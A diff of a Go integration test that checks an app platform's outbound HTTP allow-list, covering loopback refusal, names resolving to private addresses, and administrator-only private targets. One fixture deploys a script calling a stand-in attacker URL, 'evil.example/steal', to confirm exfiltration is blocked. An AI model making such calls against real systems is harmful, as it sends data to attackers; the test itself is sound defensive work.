@@ -45,7 +45,7 @@ try {
 } catch (e) {
     out = "error: " + e.message;
 }
-out`, up.URL+"/hello"))
+out`, strings.Replace(up.URL, "127.0.0.1", "localhost", 1)+"/hello"))
 	deployAPI(t, app, "evil", `let out = ""; try { http::get("https://evil.example/steal"); } catch (e) { out = e.message; } out`)
 	deployAPI(t, app, "slow", fmt.Sprintf(`http::get(%q)`, up.URL+"/slow"))
 
@@ -58,20 +58,22 @@ out`, up.URL+"/hello"))
 	if got := body("call"); !strings.Contains(got, "outbound HTTP is off for app "+app) {
 		t.Fatalf("without an allow-list the script got %q", got)
 	}
-	// The editor allows the host; it is a loopback address, still refused.
-	r := editor.ok("apps", "set-outbound", app, "--allow", "127.0.0.1")
-	if want := "APP\tALLOW\tALLOW_PRIVATE\n" + app + "\t127.0.0.1\tfalse\n"; r.stdout != want {
+	// The editor may list public hosts only: a loopback address is
+	// refused, and a name that resolves to one is refused when dialed.
+	refused(t, editor.run("apps", "set-outbound", app, "--allow", "127.0.0.1"), http.StatusUnprocessableEntity)
+	r := editor.ok("apps", "set-outbound", app, "--allow", "localhost")
+	if want := "APP\tALLOW\tPRIVATE\n" + app + "\tlocalhost\t-\n"; r.stdout != want {
 		t.Fatalf("set-outbound printed %q, want %q", r.stdout, want)
 	}
-	if got := body("call"); !strings.Contains(got, "refused to connect to 127.0.0.1 (a loopback address)") {
-		t.Fatalf("a private address: the script got %q", got)
+	if got := body("call"); !strings.Contains(got, "(a loopback address): private addresses are reachable only when an administrator names them") {
+		t.Fatalf("a name resolving to a private address: the script got %q", got)
 	}
 	if n := hits.Load(); n != 0 {
 		t.Fatalf("the upstream was called %d times before it was allowed", n)
 	}
-	// Only an administrator may allow private addresses.
-	refused(t, editor.run("apps", "set-outbound", app, "--allow-private"), http.StatusForbidden)
-	admin.ok("apps", "set-outbound", app, "--allow-private")
+	// Only an administrator names private targets.
+	refused(t, editor.run("apps", "set-outbound", app, "--private", "127.0.0.1"), http.StatusForbidden)
+	admin.ok("apps", "set-outbound", app, "--private", "127.0.0.1")
 	if got := body("call"); got != "hello from upstream" {
 		t.Fatalf("allowed: the script got %q", got)
 	}
@@ -96,8 +98,13 @@ out`, up.URL+"/hello"))
 		t.Errorf("pic invoke of a script with a 500ms limit took %s", took)
 	}
 
-	// Emptying the list turns outbound HTTP off again.
+	// Emptying both lists turns outbound HTTP off again; the editors'
+	// --none leaves the administrators' private list.
 	editor.ok("apps", "set-outbound", app, "--none")
+	if got := body("call"); !strings.Contains(got, "host localhost:") || !strings.Contains(got, "is not in this app's allow-list") {
+		t.Fatalf("after the editor's --none the script got %q", got)
+	}
+	admin.ok("apps", "set-outbound", app, "--no-private")
 	if got := body("call"); !strings.Contains(got, "outbound HTTP is off for app "+app) {
 		t.Fatalf("after --none the script got %q", got)
 	}
